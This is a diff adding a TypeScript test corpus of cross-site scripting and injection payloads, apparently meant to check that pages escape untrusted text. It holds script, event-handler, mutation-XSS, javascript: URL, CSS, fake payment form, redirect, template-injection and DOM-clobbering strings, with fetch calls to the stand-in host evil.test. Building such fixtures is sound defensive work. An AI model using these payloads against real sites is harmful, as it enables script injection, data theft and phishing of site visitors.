@@ -1,0 +1,38 @@
+/** Whatever runs says so: `window.__pwned`, a dialog, or a request to evil.test. */
+const RUN = "window.__pwned=1;fetch('https://evil.test/x')";
+
+/** Texts that end a string, a tag, an attribute, a comment or a script of a page that prints them carelessly. */
+export const CORPUS: readonly string[] = [
+  `<script>${RUN}</script>`,
+  `</Script ><img src=x onerror="${RUN}">`,
+  `"><svg onload="${RUN}"><image href="https://evil.test/i"/></svg>`,
+  `' autofocus onfocus='${RUN}' x='`,
+  `" onpointerover="${RUN}" style="position:fixed;inset:0;background:url(https://evil.test/s)`,
+  `--><script src="https://evil.test/a.js"></script><!--`,
+  `]]><script>${RUN}</script><![CDATA[`,
+  `";${RUN};//`,
+  `';${RUN};//`,
+  `\`;${RUN};//\${${RUN}}`,
+  `\u2028;${RUN};//\u2029`,
+  `&lt;img src=https://evil.test/e onerror=${RUN}&gt;`,
+  `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
+  `<svg><style><img src="</style><img src=https://evil.test/m onerror=${RUN}>">`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
+  `</title></textarea></noscript></template></style><img src="https://evil.test/t" onload="${RUN}">`,
+  `<style>@import "https://evil.test/c";body{display:none}</style>`,
+  `red;} body{display:none} :root{--x:url(https://evil.test/u)`,
+  `<iframe srcdoc="<script>parent.__pwned=1</script>" src="https://evil.test/f"></iframe>`,
+  `<base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test/r">`,
+  `<link rel=stylesheet href="https://evil.test/l"><object data="https://evil.test/o"></object>`,
+  `<form action="https://evil.test/p"><input name=card><button autofocus>Pay</button></form>`,
+  `JaVa\tscript:${RUN}`,
+  ` javascript:${RUN}//https://facebook.com/x`,
+  `data:text/html,<script>${RUN}</script>`,
+  `https://facebook.com@evil.test/x`,
+  `{{constructor.constructor("${RUN}")()}} <%= 1 %> $& $' $\``,
+  `$t(common:menu, {"x":1}) {{price}}`,
+  `<img id=__pwned name=body><a id=config><a id=config name=origin href="https://evil.test/d">`,
+  `\u202E\u2066gpj.exe\u2069\u202C\u0000\b\uFEFF\uD800`,
+  `__proto__`,
+];
